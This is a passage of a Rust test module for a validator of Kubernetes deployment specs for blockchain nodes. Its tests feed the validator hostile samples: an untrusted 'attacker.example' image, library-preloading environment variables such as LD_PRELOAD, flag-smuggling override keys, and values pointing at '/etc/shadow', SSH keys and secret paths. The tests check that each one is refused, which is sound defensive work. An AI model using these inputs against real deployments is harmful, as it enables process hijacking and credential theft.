        let text: Vec<String> = errs.iter().map(ToString::to_string).collect();
        assert_eq!(errs.len(), 4, "{text:?}");
        assert!(
            matches!(&errs[..], [ValidationError::OverrideNotAllowed { key, field, .. }, ..] if key == "blocknotify" && field == "clients[0].configOverrides"),
            "{text:?}"
        );
        assert!(text[0].contains("its settings: dbcache, blocksonly, onlynet, debug"), "{text:?}");
        assert!(text.contains(&"clients[0].configOverrides: blocksonly: \"true\" is not 0 or 1".to_string()), "{text:?}");
        assert!(text.contains(&"clients[0].configOverrides: dbcache: 1 is below the minimum 4".to_string()), "{text:?}");
        assert!(text.iter().any(|t| t.contains("onlynet: \"tor\" is not one of ipv4, onion")), "{text:?}");
        assert_eq!(key("x", OverrideKind::String).check(" "), Err(crate::executor::OverrideValueError::Empty));
        assert!(key("x", OverrideKind::Integer).check("99999").unwrap_err().to_string().contains("above the maximum"));
    }

    #[test]
    fn new_node_names_are_what_kubernetes_accepts() {
        assert!(new_node_name("eth-1").is_ok());
        assert!(new_node_name(&"a".repeat(NODE_NAME_MAX)).is_ok());
        let digit = new_node_name("1eth").unwrap_err().to_string();
        assert!(digit.starts_with("name: \"1eth\" must start with a letter"), "{digit}");
        assert!(new_node_name(&"a".repeat(NODE_NAME_MAX + 1)).unwrap_err().to_string().contains("longer than 52"));
    }

    #[test]
    fn client_image_outside_the_allowlist_is_refused() {
        let mut s = eth_spec("n");
        s.clients[0].image = Some("attacker.example/geth:latest".into());
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        assert!(matches!(&errs[..], [ValidationError::ProgramNotAllowed { field, .. }] if field == "clients[0].image"), "{errs:?}");
        let mut caps = caps();
        caps.programs.image_prefixes.push("docker.io/ethereum/".into());
        s.clients[0].image = Some("docker.io/ethereum/client-go:v1.14.11".into());
        assert_eq!(validate_spec(&s, &caps, None), Ok(()));
    }

    #[test]
    fn control_characters_are_refused_in_every_field() {
        // One mutation per string field of a spec; each must be refused naming that field.
        type Mutate = fn(&mut NodeSpec, &str);
        let fields: &[(&str, Mutate)] = &[
            ("name", |s, x| s.name = format!("n{x}")),
            ("chain", |s, x| s.chain = format!("ethereum{x}")),
            ("network", |s, x| s.network = format!("holesky{x}")),
            ("clients[0].role", |s, x| s.clients[0].role = format!("execution{x}")),
            ("clients[0].client", |s, x| s.clients[0].client = format!("geth{x}")),
            ("clients[0].version", |s, x| s.clients[0].version = format!("1.14.11{x}")),
            ("clients[0].image", |s, x| s.clients[0].image = Some(format!("img{x}"))),
            ("clients[0].configOverrides[\"cache\"]", |s, x| {
                s.clients[0].config_overrides.insert("cache".into(), format!("1{x}"));
            }),
            ("clients[0].configOverrides (key)", |s, x| {
                s.clients[0].config_overrides.insert(format!("k{x}"), "1".into());
            }),
            ("storage[0].name", |s, x| s.storage[0].name = format!("data{x}")),
            ("storage[0].mountPath", |s, x| s.storage[0].mount_path = format!("/data{x}")),
            ("storage[0].storageClass", |s, x| s.storage[0].storage_class = Some(format!("fast{x}"))),
            ("sidecars[0].name", |s, x| s.sidecars[0].name = format!("exporter{x}")),
            ("sidecars[0].image", |s, x| s.sidecars[0].image = format!("metrics-exporter{x}")),
            ("sidecars[0].command[1]", |s, x| s.sidecars[0].command = vec!["--a".into(), format!("b{x}")]),
            ("sidecars[0].env[\"LOG\"]", |s, x| {
                s.sidecars[0].env.insert("LOG".into(), format!("info{x}"));
            }),
        ];
        for control in ["\r", "\n", "\0", "\u{1b}", "\u{7f}", "\u{1f}"] {
            for (field, mutate) in fields {
                let mut s = eth_spec("n");
                s.sidecars.push(sidecar("exporter", "metrics-exporter"));
                mutate(&mut s, control);
                let errs = validate_structure(&s);
                let hit = errs.iter().find(|e| matches!(e, ValidationError::ControlCharacter { .. }));
                let Some(hit) = hit else { panic!("{control:?} in {field} was not refused: {errs:?}") };
                if field.ends_with("(key)") {
                    assert!(hit.field().starts_with("clients[0].configOverrides[") && hit.field().ends_with("(key)"), "{errs:?}");
                } else {
                    assert_eq!(hit.field(), *field, "{control:?}: {errs:?}");
                }
            }
        }
        // ordinary text passes: spaces, quotes, non-ASCII letters
        let mut s = eth_spec("n");
        s.clients[0].config_overrides.insert("graphql.vhosts".into(), "a b \"c\" é".into());
        assert_eq!(validate_structure(&s), vec![]);
    }

    #[test]
    fn oversized_specs_are_refused() {
        let mut s = eth_spec("n");
        for i in 0..=limits::CONFIG_OVERRIDES_MAX {
            s.clients[0].config_overrides.insert(format!("k{i}"), "v".into());
        }
        s.sidecars = (0..=limits::SIDECARS_MAX).map(|i| sidecar(&format!("s{i}"), "metrics-exporter")).collect();
        s.sidecars[0].command = vec!["x".into(); limits::COMMAND_ARGS_MAX + 1];
        s.sidecars[0].env = (0..=limits::ENV_ENTRIES_MAX).map(|i| (format!("V{i}"), "1".into())).collect();
        s.sidecars[1].command = vec!["y".repeat(limits::STRING_BYTES_MAX + 1)];
        let errs = validate_structure(&s);
        for field in ["clients[0].configOverrides", "sidecars", "sidecars[0].command", "sidecars[0].env"] {
            assert!(errs.iter().any(|e| matches!(e, ValidationError::TooMany { field: f, .. } if f == field)), "{field}: {errs:?}");
        }
        assert!(errs.iter().any(|e| matches!(e, ValidationError::TooLong { field, .. } if field == "sidecars[1].command[0]")), "{errs:?}");
        let mut big = eth_spec("n");
        big.sidecars = (0..limits::SIDECARS_MAX).map(|i| sidecar(&format!("s{i}"), "metrics-exporter")).collect();
        for sc in &mut big.sidecars {
            sc.command = vec!["z".repeat(limits::STRING_BYTES_MAX); limits::COMMAND_ARGS_MAX];
        }
        assert!(validate_structure(&big).iter().any(|e| matches!(e, ValidationError::TooLong { field, .. } if field == "spec")));
    }

    #[test]
    fn sidecar_env_that_loads_another_program_is_refused() {
        for key in ["LD_PRELOAD", "LD_LIBRARY_PATH", "PATH", "BASH_ENV", "NODE_OPTIONS", "PYTHONSTARTUP", "NOVACULA_UNIT", "lower case", "1X"] {
            let mut s = eth_spec("n");
            let mut sc = sidecar("exporter", "metrics-exporter");
            sc.env.insert(key.into(), "/tmp/x".into());
            s.sidecars.push(sc);
            let errs = validate_structure(&s);
            assert!(errs.iter().any(|e| e.field() == "sidecars[0].env"), "{key}: {errs:?}");
        }
        let mut s = eth_spec("n");
        let mut sc = sidecar("exporter", "metrics-exporter");
        sc.env.insert("EXPORTER_LOG_LEVEL".into(), "debug".into());
        s.sidecars.push(sc);
        assert_eq!(validate_structure(&s), vec![]);
    }

    #[test]
    fn override_keys_cannot_smuggle_flags() {
        for key in ["-exec", "--datadir", "a=b", "a b", ""] {
            let mut s = eth_spec("n");
            s.clients[0].config_overrides.insert(key.into(), "1".into());
            assert!(!validate_structure(&s).is_empty(), "{key:?}");
        }
    }

    #[test]
    fn valid_spec_passes() {
        assert_eq!(validate_spec(&eth_spec("node-1"), &caps(), None), Ok(()));
    }

    #[test]
    fn names_follow_dns_label_rules() {
        assert!(valid_name("a"));
        assert!(valid_name("eth-holesky-1"));
        assert!(!valid_name(""));
        assert!(!valid_name("-a"));
        assert!(!valid_name("a-"));
        assert!(!valid_name("A"));
        assert!(!valid_name("a_b"));
        assert!(!valid_name("a/../b"));
        assert!(valid_name(&"a".repeat(63)));
        assert!(!valid_name(&"a".repeat(64)));
    }

    #[test]
    fn empty_name_reported() {
        let mut s = eth_spec("");
        s.clients.clear();
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        assert!(errs.contains(&ValidationError::Empty { field: "name".into() }));
        assert!(errs.contains(&ValidationError::Empty { field: "clients".into() }));
    }

    #[test]
    fn unknown_chain_and_client_reported() {
        let mut s = eth_spec("n");
        s.chain = "solana".into();
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        assert!(matches!(&errs[..], [ValidationError::UnknownChain { chain, .. }] if chain == "solana"));

        let mut s = eth_spec("n");
        s.clients[0].client = "nethermind".into();
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        assert!(matches!(&errs[..], [ValidationError::UnknownClient { client, .. }] if client == "nethermind"));
        assert!(errs[0].to_string().contains("supported: geth"));
    }

    #[test]
    fn unknown_network_and_node_type_reported() {
        let mut s = eth_spec("n");
        s.network = "goerli".into();
        s.node_type = NodeType::Validator;
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        assert_eq!(errs.len(), 2, "{errs:?}");
    }

    #[test]
    fn bad_and_unoffered_versions_reported() {
        let mut s = eth_spec("n");
        s.clients[0].version = "latest".into();
        s.clients[1].version = "v5.2.0".into();
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        assert!(errs.iter().any(|e| matches!(e, ValidationError::BadVersion { .. })));
        assert!(errs.iter().any(|e| matches!(e, ValidationError::UnknownVersion { version, .. } if version == "v5.2.0")));
    }

    #[test]
    fn duplicates_and_bad_storage_reported() {
        let mut s = eth_spec("n");
        s.clients[1].role = "execution".into();
        s.storage[0].size_gib = 0;
        s.storage[0].mount_path = "data".into();
        s.sidecars.push(sidecar("execution", " "));
        let errs = validate_structure(&s);
        assert!(errs.iter().filter(|e| matches!(e, ValidationError::Duplicate { .. })).count() == 2, "{errs:?}");
        assert!(errs.iter().any(|e| matches!(e, ValidationError::Invalid { field, .. } if field == "storage[0].sizeGib")));
        assert!(errs.iter().any(|e| matches!(e, ValidationError::Invalid { field, .. } if field == "storage[0].mountPath")));
        assert!(errs.iter().any(|e| matches!(e, ValidationError::Empty { field } if field == "sidecars[0].image")));
    }

    #[test]
    fn override_keys_checked() {
        let mut s = eth_spec("n");
        s.clients[0].config_overrides.insert("bad key".into(), "1".into());
        assert!(!validate_structure(&s).is_empty());
    }

    #[test]
    fn every_volume_beyond_the_first_is_one_a_process_uses() {
        use crate::spec::SidecarVolume;
        let mut s = eth_spec("n");
        let volume = |name: &str, holds: Option<&str>| StorageVolume {
            name: name.into(),
            size_gib: 10,
            mount_path: format!("/{name}"),
            storage_class: None,
            holds: holds.map(Into::into),
        };
        s.storage.push(volume("cold", Some("ancient")));
        assert_eq!(validate_spec(&s, &caps(), None), Ok(()), "geth puts its ancient store on it");
        s.storage.push(volume("era", Some("era")));
        s.storage.push(volume("spare", None));
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        let fields: Vec<&str> = errs.iter().map(ValidationError::field).collect();
        assert_eq!(fields, ["storage[2].holds", "storage[3].holds"], "{errs:?}");
        assert!(errs.iter().all(|e| e.to_string().contains("offered: ancient (geth)")), "{errs:?}");
        // A sidecar's volume, and one kept unchanged from before an edit, are fine.
        s.storage.remove(2);
        let mut before = s.clone();
        s.sidecars.push(Sidecar {
            name: "backup".into(),
            image: "metrics-exporter".into(),
            command: vec![],
            env: Default::default(),
            volumes: vec![SidecarVolume { name: "spare".into(), writable: false }],
        });
        assert_eq!(validate_spec(&s, &caps(), None), Ok(()));
        s.sidecars.clear();
        before.storage[2].size_gib = 5;
        assert_eq!(validate_spec(&s, &caps(), Some(&before)), Ok(()), "kept from before the edit");
        s.storage[0].holds = Some("ancient".into());
        assert!(validate_spec(&s, &caps(), Some(&before)).is_err(), "the first volume holds the data dirs only");
    }

    #[test]
    fn a_command_line_override_never_points_a_flag_at_a_host_path() {
        for (value, path) in [
            ("/etc/novacula/secrets/eth-l1", true),
            ("../../secrets/x", true),
            ("a,../b", true),
            ("~/.ssh/id", true),
            ("\"/etc/shadow\"", true),
            ("https://checkpoint.example/eth", false),
            ("eth,net,web3", false),
            ("4096", false),
            ("a..b", false),
        ] {
            assert_eq!(names_host_path(value), path, "{value}");
        }
        let mut s = eth_spec("n");
        s.clients[0].config_overrides.insert("config".into(), "/etc/novacula/secrets/eth-l1".into());
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        assert_eq!((errs[0].field(), errs[0].code()), ("clients[0].configOverrides", "override_managed_by_adapter"), "{errs:?}");
        assert!(errs[0].to_string().contains("a path on the host"), "{errs:?}");
    }

    #[test]
    fn a_secret_setting_is_required_and_names_a_secret_never_its_value() {
        let mut caps = caps();
        caps.chains[0].clients[1].overrides = vec![crate::executor::OverrideKey {
            name: "l1".into(),
            kind: crate::executor::OverrideKind::Secret,
            allowed: vec![],
            min: None,
            max: None,
            default: None,
            description: "L1 RPC".into(),
        }];
        let mut s = eth_spec("n");
        s.clients[1].version = "v5.3.0".into();
        let errs = validate_spec(&s, &caps, None).unwrap_err();
        assert_eq!((errs[0].field(), errs[0].code()), ("clients[1].configOverrides.l1", "required"), "{errs:?}");
        s.clients[1].config_overrides.insert("l1".into(), "https://mainnet.infura.io/v3/KEY".into());
        let errs = validate_spec(&s, &caps, None).unwrap_err();
        assert!(errs[0].to_string().contains("name the secret, never its value"), "{errs:?}");
        s.clients[1].config_overrides.insert("l1".into(), "eth-l1".into());
        assert_eq!(validate_spec(&s, &caps, None), Ok(()));
    }

    #[test]
    fn an_edit_keeps_chain_network_node_type_clients_and_storage_classes() {
        let mut caps = caps();
        caps.chains[0].clients.push(ClientSupport { role: "execution".into(), client: "reth".into(), ..Default::default() });
        let mut before = eth_spec("n");
        before.storage = vec![StorageVolume { name: "data".into(), size_gib: 10, mount_path: "/data".into(), storage_class: Some("fast".into()), holds: None }];
        let mut s = before.clone();
        s.clients[0].version = "1.15.0".into();
        s.clients[0].config_overrides.insert("cache".into(), "4096".into());
        s.storage[0].size_gib = 20;
        assert_eq!(validate_spec(&s, &caps, Some(&before)), Ok(()), "versions, settings and sizes are editable");
        s.network = "mainnet".into();
        s.node_type = NodeType::Archive;
        s.clients[0].client = "reth".into();
        s.storage[0].storage_class = Some("slow".into());
        let errs = validate_spec(&s, &caps, Some(&before)).unwrap_err();
        let fields: Vec<(&str, &str)> = errs.iter().map(|e| (e.field(), e.code())).collect();
        assert_eq!(
            fields,
            [("network", "not_editable"), ("nodeType", "not_editable"), ("clients[0].client", "not_editable"), ("storage[0].storageClass", "not_editable")],
            "{errs:?}"
        );
        assert_eq!(validate_spec(&s, &caps, None), Ok(()), "the same spec deploys as a new node");
        let mut fewer = before.clone();
        fewer.clients.pop();
        assert_eq!(validate_spec(&fewer, &caps, Some(&before)).unwrap_err()[0].field(), "clients");
    }

    #[test]
    fn mount_paths_are_the_volumes_own() {
        let mut s = eth_spec("n");
        let volume = |name: &str, path: &str| StorageVolume { name: name.into(), size_gib: 1, mount_path: path.into(), storage_class: None, holds: None };
        s.storage =
            vec![volume("data", "/novacula/data"), volume("a", "/tmp"), volume("b", "/novacula/x"), volume("c", "/novacula/data/y"), volume("d", "/srv/d")];
        s.storage.push(volume("e", "/srv/d/e"));
        s.storage.push(volume("f", "/srv/f/"));
        let fields: Vec<String> = validate_structure(&s).iter().map(|e| e.field().to_string()).collect();
        assert_eq!(fields, ["storage[1].mountPath", "storage[2].mountPath", "storage[3].mountPath", "storage[5].mountPath"]);
    }

    #[test]
    fn storage_classes_and_p2p_exposure_are_the_executors() {
        use crate::spec::P2pExposure;
        let mut s = eth_spec("n");
        s.storage[0].storage_class = Some("fast".into());
        s.p2p_exposure = P2pExposure::LoadBalancer;
        // An executor that cannot tell its classes (absent) is not second-guessed; P2P exposure it does not offer is refused.
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        assert!(matches!(&errs[..], [ValidationError::Invalid { field, reason }] if field == "p2pExposure" && reason.contains("offers: none")), "{errs:?}");
        let mut operator = caps();
        operator.p2p_exposures = vec![P2pExposure::NodePort, P2pExposure::LoadBalancer];
        operator.storage_classes = Some(vec!["standard".into(), "fast".into()]);
        assert_eq!(validate_spec(&s, &operator, None), Ok(()));
        operator.storage_classes = Some(vec!["standard".into()]);
        let errs = validate_spec(&s, &operator, None).unwrap_err();
        assert!(
            matches!(&errs[..], [ValidationError::Invalid { field, reason }] if field == "storage[0].storageClass" && reason.contains("its classes: standard")),
            "{errs:?}"
        );
    }

    #[test]
    fn a_sidecar_sees_only_storage_volumes_of_its_spec() {
        use crate::spec::SidecarVolume;
        let mut s = eth_spec("n");
        let mut sc = sidecar("backup", "metrics-exporter");
        sc.volumes = vec![SidecarVolume { name: "data".into(), writable: false }];
        s.sidecars.push(sc);
        assert_eq!(validate_structure(&s), vec![]);
        s.sidecars[0].volumes.push(SidecarVolume { name: "keys".into(), writable: true });
        let errs = validate_structure(&s);
        assert!(
            matches!(&errs[..], [ValidationError::Invalid { field, reason }] if field == "sidecars[0].volumes[1].name" && reason.contains("its volumes: data")),
            "{errs:?}"
        );
    }
}
